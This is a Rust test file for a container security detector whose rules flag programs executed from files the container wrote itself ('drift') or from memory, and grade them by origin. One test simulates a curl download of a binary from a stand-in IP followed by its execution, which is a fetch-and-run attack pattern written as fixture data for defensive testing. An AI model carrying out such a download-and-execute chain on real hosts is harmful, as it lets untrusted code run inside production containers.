//! Programs that a container wrote itself, and those that it brought along or installed.

use crate::detect::Severity::{High, Low, Medium};
use crate::detect::testkit::*;
use crate::model::{GroupKey, ImageFile};

/// What is tested here.
const RULES: &[&str] = &["drift_exec", "memory_exec"];

/// A file in the layer that the container writes.
fn written(inode: u64, writer: Option<u32>) -> ImageFile {
    ImageFile { upper: true, inode, writer: writer.map(id), ..overlay_file() }
}

/// Runs the file `inode` that `writer` wrote, as 119, out of the shell of web-1.
fn run_written(node: &mut Node, writer: u32) {
    node.fork(119, 110);
    node.exec_as(119, "/srv/x", written(60, Some(writer)));
}

#[test]
fn what_the_container_wrote_is_told_with_its_writer() {
    let mut node = Node::web().only(RULES);
    node.run(111, 110, "/bin/cp /data/x /srv/x");
    run_written(&mut node, 111);
    assert_eq!(node.found[0].title, "/srv/x runs in web-1, and is not of its image");
    assert_eq!((node.shown(0), node.others(0)), (vec![("exec", 119), ("open", 111)], vec![111]));
    assert_eq!(node.found[0].why[1].fact.text, "cp (111)");
    assert_eq!(node.take(), [("drift_exec".into(), Medium, false)]);
}

#[test]
fn a_writer_that_nobody_saw_is_not_needed() {
    let mut node = Node::web().only(RULES);
    node.fork(111, 110);
    node.exec_as(111, "/srv/x", written(60, None));
    assert_eq!((node.shown(0), node.others(0)), (vec![("exec", 111)], vec![]));
    assert_eq!(node.take(), [("drift_exec".into(), Medium, false)]);
}

#[test]
fn what_was_fetched_from_the_network_is_worse() {
    let mut node = Node::web().only(RULES);
    node.run(111, 110, "/usr/bin/curl -o /srv/x http://203.0.113.9/x");
    node.connects(111, "203.0.113.9:80");
    node.exit(111);
    run_written(&mut node, 111);
    assert_eq!((node.shown(0), node.others(0)), (vec![("exec", 119), ("open", 111), ("connect", 111)], vec![111]));
    assert_eq!(node.found[0].why[2].fact.text, "203.0.113.9:80");
    assert_eq!(node.take(), [("drift_exec".into(), High, false)]);
}

#[test]
fn what_a_package_manager_installed_is_low_even_from_the_network() {
    for (manager, child) in [
        ("/usr/bin/apt-get install jq", "/usr/bin/dpkg --unpack jq.deb"),
        ("/sbin/apk add jq", "/bin/busybox cp"),
        ("/usr/bin/python3.11 /usr/local/bin/pip install x", "/usr/bin/cc x.c"),
    ] {
        let mut node = Node::web().only(RULES);
        node.run(111, 110, manager);
        node.connects(111, "203.0.113.9:443");
        node.run(112, 111, child);
        run_written(&mut node, 111);
        node.fork(118, 110);
        node.exec_as(118, "/usr/bin/jq", written(61, Some(112)));
        let low = || ("drift_exec".to_owned(), Low, false);
        assert_eq!(node.take(), [low(), low()], "{manager}");
    }
}

#[test]
fn what_a_package_manager_runs_itself_is_low() {
    let mut node = Node::web().only(RULES);
    node.run(111, 110, "/usr/bin/dpkg --configure jq");
    node.fork(112, 111);
    node.exec_as(112, "/var/lib/dpkg/info/jq.postinst", written(60, None));
    assert_eq!(node.take(), [("drift_exec".into(), Low, false)]);
}

#[test]
fn a_file_is_told_once_in_each_container() {
    let mut node = Node::web().only(RULES);
    node.start(DB, 200, own(200), "/usr/bin/postgres");
    for (pid, maker) in [(211, 110), (212, 110), (213, 201)] {
        node.fork(pid, maker);
        node.exec_as(pid, "/srv/x", written(60, None));
    }
    let told: Vec<u32> = node.found.iter().map(|it| it.process.pid).collect();
    assert_eq!(told, [211, 213]);
}

#[test]
fn programs_of_the_image_and_of_the_host_are_no_drift() {
    let mut node = Node::web().only(RULES);
    node.run(111, 110, "/usr/bin/nginx -s reload");
    // A host whose root is an overlay itself.
    node.fork(40, 20);
    node.exec_as(40, "/srv/x", written(60, Some(20)));
    node.seen(41, 1, "/usr/bin/agent", HOST, GroupKey::Service("agent.service".into()));
    node.exec_as(41, "/srv/agent", written(61, None));
    assert_eq!(node.take(), []);
}

#[test]
fn a_program_in_memory_is_told_as_that_only() {
    let mut node = Node::web().only(RULES);
    node.fork(111, 110);
    node.exec_as(111, "/memfd:x", ImageFile { in_memory: true, ..written(60, None) });
    assert_eq!(node.take(), [("memory_exec".into(), High, false)]);
}
